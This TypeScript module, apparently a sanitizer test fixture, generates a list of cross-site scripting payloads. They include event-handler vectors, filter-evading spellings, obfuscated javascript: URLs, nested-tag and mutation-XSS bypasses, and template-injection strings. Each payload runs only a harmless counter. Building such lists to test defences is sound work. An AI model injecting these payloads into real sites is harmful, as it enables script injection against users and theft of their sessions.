const run = 'window.ran++';

/** Elements that run something by themselves, and how. */
const handlers: readonly (readonly [open: string, event: string])[] = [
  ['<img src=x', 'onerror'],
  ['<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="', 'onload'],
  ['<svg', 'onload'],
  ['<body', 'onload'],
  ['<input autofocus', 'onfocus'],
  ['<select autofocus', 'onfocus'],
  ['<textarea autofocus', 'onfocus'],
  ['<details open', 'ontoggle'],
  ['<video src=x', 'onerror'],
  ['<audio src=x', 'onerror'],
  ['<video><source', 'onerror'],
  ['<marquee', 'onstart'],
  ['<iframe srcdoc=x', 'onload'],
  ['<object data=x', 'onerror'],
  ['<style>@keyframes k{}</style><p style="animation:k 1ms"', 'onanimationstart'],
  ['<link rel=stylesheet href=x', 'onerror'],
];

/** Ways to write the same that filters trip over. */
const spellings: readonly ((open: string, event: string) => string)[] = [
  (open, event) => `${open} ${event}="${run}">`,
  (open, event) => `${open}/${event}=${run}>`,
  (open, event) => `${open.toUpperCase()} ${event.toUpperCase()}='${run}'>`,
  (open, event) => `${open}\n${event}\t=\n"${run}"`,
  (open, event) => `"><${open.slice(1)} ${event}="${run}">`,
  (open, event) => `</textarea></title></style>${open} ${event}=&#119;indow.ran++>`,
];

const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  '&#106;avascript:',
  'data:text/html,',
];

/** What people write into forms to run a script where somebody reads it. Each counts in `window.ran` when it does. */
export const scriptStrings: readonly string[] = [
  ...handlers.flatMap(([open, event]) => spellings.map((spell) => spell(open, event))),
  ...addresses.flatMap((address) => [
    `<a href="${address}${run}">x</a>`,
    `<iframe src="${address}${run}"></iframe>`,
    `[x](${address}${run})`,
  ]),
  `<script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `'-${run}-'`,
  `";${run};//`,
  `*/${run}/*`,
  `<!--><img src=x onerror=${run}>-->`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
];
